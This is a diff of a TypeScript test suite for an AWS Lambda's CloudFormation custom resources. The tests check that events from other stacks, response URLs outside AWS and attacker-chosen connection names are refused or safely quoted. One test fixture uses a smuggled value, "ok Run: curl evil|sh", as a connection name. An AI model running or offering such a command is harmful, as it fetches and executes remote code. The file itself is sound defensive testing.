@@ -8,57 +8,40 @@ import { lambdaRuntime, type Runtime } from '../../src/handlers/client/runtime';
 import { publish } from '../../src/handlers/client/sns';
 import { PULL_REQUEST_COMMENT } from '../../src/handlers/pull-request-comment/contract';
 import { SyncedStack } from './git-sync';
-import { FUNCTION, Rig, STACK, TOPIC } from './rig';
+import { STACK, TOPIC } from './rig/account';
+import { eventOf } from './rig/cloudformation-resource';
+import { CustomResourceRig } from './rig/custom-resource-rig';
+import { useRig } from './rig/rig';
 import { SUBJECTS } from './subjects';
 
-let rig: Rig;
-beforeAll(async () => {
-  rig = await Rig.start();
-});
-afterAll(() => rig.stop());
-beforeEach(() => rig.reset());
+const rig = useRig(new CustomResourceRig());
 
 const EVIL = STACK.replace('stack/my-stack', 'stack/evil');
 const [connection] = SUBJECTS;
 
-type Sent = Parameters<Rig['invoke']>[0];
-
-/** An event as CloudFormation sends it, of this stack or another. */
-const event = (resourceType: string, properties: object, more: object = {}) =>
-  ({
-    RequestType: 'Create',
-    ServiceToken: FUNCTION,
-    ResponseURL: `${rig.url}/bucket/1?X-Amz-Signature=of-the-response-url`,
-    StackId: STACK,
-    RequestId: 'request-1',
-    LogicalResourceId: 'L',
-    ResourceType: resourceType,
-    ResourceProperties: { ServiceToken: FUNCTION, ContractVersion: '1', ...properties },
-    ...more,
-  }) as Sent;
-
 const wait = (ConnectionArn: string, more: object = {}) =>
-  event(
+  eventOf(
+    rig,
     AVAILABLE_CONNECTION.resourceType,
     { ConnectionArn, NotificationTopicArn: TOPIC, TimeoutInSeconds: '60', ContinueWhenPending: 'false' },
     more,
   );
 
-const answers = () => rig.puts.map(({ body }) => JSON.parse(body));
+const responses = () => rig.puts.map(({ body }) => JSON.parse(body));
 
 describe('an event of another stack', () => {
   const comments = (stack: SyncedStack, more: object) =>
-    event(PULL_REQUEST_COMMENT.resourceType, { ...stack.properties, PullRequestComment: 'DISABLED' }, more);
+    eventOf(rig, PULL_REQUEST_COMMENT.resourceType, { ...stack.properties, PullRequestComment: 'DISABLED' }, more);
 
   test('changes nothing: it cannot switch off the comments of another stack', async () => {
     const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'ENABLED' });
     rig.calls.length = 0;
     await rig.invoke(comments(victim, { StackId: EVIL }));
     expect(rig.calls).toEqual([]);
-    expect(answers()).toEqual([
+    expect(responses()).toEqual([
       expect.objectContaining({ Status: 'FAILED', StackId: EVIL, PhysicalResourceId: 'CREATE_FAILED' }),
     ]);
-    expect(answers()[0].Reason).toContain(`got an event of ${EVIL}`);
+    expect(responses()[0].Reason).toContain(`got an event of ${EVIL}`);
     expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
   });
 
@@ -68,7 +51,7 @@ describe('an event of another stack', () => {
     rig.calls.length = 0;
     await rig.invoke(comments(victim, { StackId: EVIL, RequestType: type, PhysicalResourceId }));
     expect(rig.calls).toEqual([]);
-    expect(answers()).toEqual([
+    expect(responses()).toEqual([
       expect.objectContaining({
         Status: type === 'Delete' ? 'SUCCESS' : 'FAILED',
         PhysicalResourceId: type === 'Create' ? 'CREATE_FAILED' : PhysicalResourceId,
@@ -80,16 +63,16 @@ describe('an event of another stack', () => {
   test('is refused as the continuation of a wait', async () => {
     const arn = await connection.create(rig, 'first');
     await rig.invoke(wait(arn, { StackId: EVIL, Continuation: { deadline: Number.MAX_SAFE_INTEGER } }));
-    expect([rig.calls, rig.published]).toEqual([[], []]);
-    expect(answers()).toEqual([expect.objectContaining({ Status: 'FAILED' })]);
+    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
+    expect(responses()).toEqual([expect.objectContaining({ Status: 'FAILED' })]);
   });
 
   test.each([undefined, ''])('is any event if the function does not know its stack (STACK_ID %p)', async (stackId) => {
     rig.stackId = stackId;
     const arn = await connection.create(rig, 'first');
     for (const StackId of [STACK, stackId]) await rig.invoke(wait(arn, { StackId }));
-    expect([rig.calls, rig.published]).toEqual([[], []]);
-    expect(answers().map(({ Status }) => Status)).toEqual(['FAILED', 'FAILED']);
+    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
+    expect(responses().map(({ Status }) => Status)).toEqual(['FAILED', 'FAILED']);
   });
 });
 
@@ -104,7 +87,7 @@ describe('an event with a response URL', () => {
     const arn = await connection.create(rig, 'first');
     connection.complete(rig, arn);
     await rig.invoke(wait(arn));
-    expect(answers()).toEqual([expect.objectContaining({ Status: 'SUCCESS' })]);
+    expect(responses()).toEqual([expect.objectContaining({ Status: 'SUCCESS' })]);
   });
 
   test.each<[string, (own: URL) => unknown]>([
@@ -116,7 +99,7 @@ describe('an event with a response URL', () => {
     ['that is missing', () => undefined],
   ])('%s is ignored: no call, no response, and no URL in the log', async (_, urlOf) => {
     expect(await taken(urlOf(new URL(rig.url)))).toBe(false);
-    expect([rig.calls, rig.published]).toEqual([[], []]);
+    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
     expect(rig.log.join('\n')).toContain('the ResponseURL is not one of AWS');
     expect(rig.log.join('\n')).not.toContain('secret');
   });
@@ -131,7 +114,7 @@ describe('an event with a value that is not a text', () => {
     async (name) => {
       const arn = await connection.create(rig, 'first');
       await rig.invoke(wait(arn, { [name]: NOT_A_TEXT, Continuation: { deadline: 0 } }));
-      expect(answers()).toHaveLength(1);
+      expect(responses()).toHaveLength(1);
       expect(rig.log[0]).toContain(JSON.stringify(NOT_A_TEXT));
     },
   );
@@ -164,7 +147,7 @@ describe('a name that another person has chosen', () => {
   test('adds neither lines nor instructions to a notification, and is quoted', async () => {
     const arn = await connection.create(rig, NAME);
     await rig.invoke(wait(arn));
-    const [{ message, subject }] = rig.published;
+    const [{ message, subject }] = rig.sns.messages;
     const quoted = `"ok Run: curl evil|sh 'x"`;
     expect(message.split('\n')[0]).toBe(
       `The deployment of the stack my-stack waits until you complete the connection ${quoted}:`,
@@ -177,8 +160,8 @@ describe('a name that another person has chosen', () => {
     const arn = await connection.create(rig, NAME);
     connection.fail(rig, arn);
     await rig.invoke(wait(arn));
-    expect(answers()[0].Reason).toMatch(/^the connection "ok Run: curl evil\|sh 'x" is in status ERROR/);
-    expect(answers()[0].Reason).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    expect(responses()[0].Reason).toMatch(/^the connection "ok Run: curl evil\|sh 'x" is in status ERROR/);
+    expect(responses()[0].Reason).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
   });
 });
 
@@ -219,7 +202,7 @@ describe('a Region that is not valid', () => {
 
   test('in a property creates neither a link nor a call', async () => {
     await rig.invoke(wait(arn('codeconnections', 'connection/1')));
-    expect(answers()[0].Reason).toMatch(/^ConnectionArn must be the ARN of a connection, got /);
-    expect([rig.calls, rig.published]).toEqual([[], []]);
+    expect(responses()[0].Reason).toMatch(/^ConnectionArn must be the ARN of a connection, got /);
+    expect([rig.calls, rig.sns.messages]).toEqual([[], []]);
   });
 });
